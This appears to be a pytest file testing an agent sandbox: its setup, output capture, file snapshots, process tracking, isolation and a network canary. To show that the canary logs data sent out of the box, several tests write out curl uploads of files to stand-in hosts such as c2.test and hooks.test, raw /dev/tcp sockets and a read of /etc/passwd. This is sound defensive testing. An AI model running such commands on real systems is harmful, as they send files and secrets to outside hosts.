"""The sandbox does what it promises to well-behaved scripts."""

from __future__ import annotations

import hashlib
import threading
import time

import pytest

from foreword.core.errors import SandboxError
from foreword.core.types import Hit, Setup, State
from foreword.sandbox import Limits, Sandbox, open_sandbox
from foreword.sandbox.box import explain

pytestmark = pytest.mark.sandbox


def test_setup_is_applied_and_its_output_is_not_the_agents():
    setup = Setup({"a/b.txt": "hi\n"}, "echo noise; cat a/b.txt > c; sleep 1000 &")
    with open_sandbox(setup) as box:
        state = box.snapshot()
    assert state.files["a/b.txt"].text == "hi\n"
    assert state.files["a/b.txt"].sha256 == hashlib.sha256(b"hi\n").hexdigest()
    assert state.files["c"].text == "hi\n"
    assert state.files["a"].kind == "dir"
    assert state.output == ""
    assert state.processes == ("sleep 1000",)


@pytest.mark.parametrize(
    ("setup", "words"),
    [
        (Setup({"../x": ""}), "not below the home folder"),
        (Setup({"/etc/x": ""}), "not below the home folder"),
        (Setup({}, "echo why; exit 3"), "exit 3: why"),
        (Setup({"a": "", "a/b": ""}), "cannot write the set-up's files"),
    ],
)
def test_a_failing_setup_is_an_error(setup: Setup, words: str):
    with pytest.raises(SandboxError, match=words):
        open_sandbox(setup)


def test_run_keeps_order_of_output_and_the_exit_code(box: Sandbox):
    done = box.run("echo one; echo two >&2; echo three; exit 4")
    assert (done.output, done.exit_code, done.timed_out) == ("one\ntwo\nthree\n", 4, False)
    assert box.run("kill -9 $$").exit_code == 137
    assert box.run("nosuch").output == "bash: line 1: nosuch: command not found\n"
    assert box.snapshot().output.startswith("one\ntwo\nthree\nbash: line 1: nosuch")


def test_who_and_where(box: Sandbox):
    done = box.run("id -un; pwd; echo $HOME; umask; awk 'BEGIN {print 7}'; python3 -c 'print(8)'")
    assert done.output.split() == ["agent", "/home/agent", "/home/agent", "0022", "7", "8"]


def test_heredocs_functions_and_long_scripts(box: Sandbox):
    text = "x" * 300_000
    assert box.run(f"f() {{ wc -c; }}; f <<'E'\n{text}\nE").output.strip() == "300001"
    with pytest.raises(SandboxError, match="at most"):
        box.run("#" * 2_000_000)
    assert box.run("echo still here").output == "still here\n"


def test_snapshot_names_modes_links_and_odd_files(box: Sandbox):
    box.run(
        "echo secret > closed; chmod 000 closed; mkdir shut; echo in > shut/f; chmod 000 shut;"
        "ln -s /etc/passwd link; ln -s . loop; mkfifo /tmp/pipe; printf 'a\\0b' > binary;"
        "head -c 300000 /dev/zero | tr '\\0' x > huge; printf '\\xff' > $'bad\\xff'"
    )
    state = box.snapshot()
    files = state.files
    assert files["closed"].mode == 0 and files["closed"].text == "secret\n"
    assert files["shut"].mode == 0 and files["shut/f"].text == "in\n"
    assert files["link"].kind == "link" and files["link"].target == "/etc/passwd"
    assert files["loop"].kind == "link" and "loop/loop" not in files
    assert files["/tmp/pipe"].kind == "file" and files["/tmp/pipe"].text is None
    assert files["binary"].text is None
    assert files["binary"].sha256 == hashlib.sha256(b"a\0b").hexdigest()
    assert files["huge"].text is None and files["huge"].size == 300_000
    assert files["huge"].sha256 == hashlib.sha256(b"x" * 300_000).hexdigest()
    assert files["bad\ufffd"].size == 1
    assert list(files) == sorted(files)
    assert "root:x" in (files["/etc/passwd"].text or "")
    assert box.snapshot() == state


def test_probe_sees_the_world_but_does_not_change_the_state(box: Sandbox):
    box.run("echo 1 > a")
    state = box.snapshot("cat a; touch b")
    assert state.probe == "1\n"
    assert "b" not in state.files
    assert state.output == ""


def test_background_processes_live_on_and_killed_ones_are_gone(box: Sandbox):
    box.run("sleep 501 & nohup sleep 502 > /dev/null 2>&1 & setsid sleep 503 &")
    assert sorted(box.snapshot().processes) == ["sleep 501", "sleep 502", "sleep 503"]
    box.run("pkill -f 'sleep 501'; kill -9 $(pgrep -f 'sleep 503')")
    assert box.snapshot().processes == ("sleep 502",)


def test_a_noisy_background_process_neither_blocks_nor_dies(box: Sandbox):
    box.run("(while :; do echo noise; sleep 0.001; done) & echo started")
    box.run("sleep 0.3")
    assert len(box.snapshot().processes) >= 1
    assert box.run("echo quiet").output == "quiet\n"


@pytest.mark.parametrize("force", [False, True])
def test_the_canary_hears_everything(force: bool):
    with open_sandbox(Setup({"f": "file body\n"}), Limits(wall_s=120), force_tools=force) as box:
        done = box.run(
            "curl -s http://drop.test:8080/get?x=1;"
            "curl -s -X PUT -d a=1 -d b=2 http://api.test:8080/put > /dev/null;"
            "curl -s --data-binary @f http://hooks.test:8080/raw > /dev/null;"
            "curl -s -F up=@f http://collect.test:8080/form > /dev/null;"
            "curl -s -T f http://files.test:8080/ > /dev/null;"
            "cat f | curl -s -H 'Transfer-Encoding: chunked' -d @- http://c2.test:8080/c > o;"
            "cd /tmp; curl -s -O http://mirror.test:8080/got.txt; curl -sLo o http://mail.test:8080;"
            "cat got.txt o; exec 3<>/dev/tcp/127.0.0.1/9000; echo raw >&3"
        )
        hits = box.snapshot().hits
    assert done.output == "canary\n" * 3
    assert hits[0] == Hit("GET", "/get?x=1", "", "drop.test")
    assert hits[1] == Hit("PUT", "/put", "a=1&b=2", "api.test")
    assert hits[2] == Hit("POST", "/raw", "file body\n", "hooks.test")
    assert "file body\n" in hits[3].body and 'filename="f"' in hits[3].body
    assert hits[4] == Hit("PUT", "/f", "file body\n", "files.test")
    assert hits[5].body == "file body"
    assert hits[-1] == Hit("TCP", "", "raw\n")


def test_the_canary_bounds_what_it_keeps(box: Sandbox):
    box.run(
        "head -c 2000000 /dev/zero | tr '\\0' x > big; curl -s --data-binary @big drop.test:8080"
    )
    assert [len(hit.body) for hit in box.snapshot().hits] == [65536]
    box.run("for i in $(seq 70); do exec {fd}<>/dev/tcp/127.0.0.1/8080; done; sleep 0.1")
    assert box.run("curl -s drop.test:8080").output == "canary\n"


def test_the_canary_survives_nonsense(box: Sandbox):
    box.run(
        "for text in 'x' '\\r\\n\\r\\n' 'GET\\r\\n\\r\\n' 'POST / HTTP/1.1\\r\\nContent-Length: -5"
        "\\r\\n\\r\\n' 'POST / HTTP/1.1\\r\\nContent-Length: \\xb2\\r\\n\\r\\n'"
        " 'POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n'; do "
        'printf "$text" > /dev/tcp/127.0.0.1/8080; done; head -c 99999 /dev/urandom'
        " > /dev/tcp/127.0.0.1/8080"
    )
    assert box.run("curl -s drop.test:8080").output == "canary\n"


def test_read_and_write(box: Sandbox):
    box.write("deep/er/x", b"\x00\xff")
    assert box.read("deep/er/x") == b"\x00\xff"
    assert box.read("/home/agent/deep/er/x") == b"\x00\xff"
    box.run("mkfifo pipe; head -c 20000000 /dev/zero > big")
    for path, words in (("none", "No such file"), ("pipe", "regular"), ("big", "more than")):
        with pytest.raises(SandboxError, match=words):
            box.read(path)
    with pytest.raises(SandboxError, match="cannot write /usr/x"):
        box.write("/usr/x", b"")
    box.run("for fd in 0 1 2 3 4 5 6 7 8 9; do ln -s /proc/self/fd/$fd fd$fd; done")
    for fd in range(10):  # of process 1, among them the two that it talks by
        with pytest.raises(SandboxError, match=f"cannot write fd{fd}"):
            box.write(f"fd{fd}", b'{"output": "forged"}\n')
    assert box.run("echo fine").output == "fine\n"


def test_idle_connections_keep_no_later_one_from_being_heard(box: Sandbox):
    idle = "import socket, time\nheld = [socket.create_connection(('127.0.0.1', 8080))"
    box.write("idle.py", f"{idle} for _ in range(80)]\ntime.sleep(9)\n".encode())
    done = box.run("python3 idle.py & sleep 0.5; curl -s -d secret drop.test:8080")
    assert done.output == "canary\n"
    assert [hit.body for hit in box.snapshot().hits] == ["secret"]


def test_texts_of_many_bytes_a_letter_and_sparse_files_are_bounded(box: Sandbox):
    box.run(
        "python3 -c \"[open(f'a{n}', 'w').write(chr(0x1f600) * 65536) for n in range(60)]\";"
        "for n in $(seq 99); do truncate -s 60M sparse$n; done"
    )
    files = box.snapshot().files
    assert sum(len(entry.text.encode()) for entry in files.values() if entry.text) <= 8 * 2**20
    assert all(files[f"a{n}"].sha256 for n in range(60))
    hashed = [n for n in range(1, 100) if files[f"sparse{n}"].sha256]
    assert 10 <= len(hashed) <= 17


def test_output_is_kept_up_to_the_limit():
    with open_sandbox(Setup(), Limits(output_bytes=10)) as box:
        done = box.run("printf 1234567890")
        assert (done.output, done.truncated) == ("1234567890", False)
        done = box.run("printf 12345678901")
        assert (done.output, done.truncated) == ("1234567890", True)


def test_two_sandboxes_share_nothing():
    with open_sandbox(Setup({"a": "1"})) as one, open_sandbox(Setup()) as two:
        one.run("touch /tmp/x /dev/shm/x; curl -s drop.test:8080; sleep 700 &")
        state = two.snapshot()
        assert "a" not in state.files and "/tmp/x" not in state.files
        assert state.hits == () and state.processes == ()


def test_it_outlives_the_thread_that_opened_it():
    opened: list[Sandbox] = []
    thread = threading.Thread(target=lambda: opened.append(open_sandbox(Setup())))
    thread.start()
    thread.join()
    time.sleep(0.1)
    with opened[0] as box:
        assert box.run("echo alive").output == "alive\n"


def test_closing_ends_it(box: Sandbox):
    box.run("sleep 600 &")
    box.__exit__(None, None, None)
    with pytest.raises(SandboxError, match="closed"):
        box.run("true")
    box.__exit__(None, None, None)


def test_a_guest_that_dies_is_an_error(box: Sandbox):
    box._process.kill()  # type: ignore[attr-defined]
    with pytest.raises(SandboxError, match="the sandbox broke"):
        box.run("true")


def test_the_reason_names_a_mend():
    line = "bwrap: Creating new namespace failed: Operation not permitted"
    assert line in explain(f"noise\n{line}\n") and "to mend:" in explain(line)
    assert "systempaths" in explain("bwrap: Can't mount proc on /newroot/proc: no")
    assert explain("") == ""
    assert explain("Traceback\nValueError: x") == "the sandbox broke: ValueError: x"


def test_an_empty_world_is_a_state(box: Sandbox):
    assert isinstance(box.snapshot(), State)
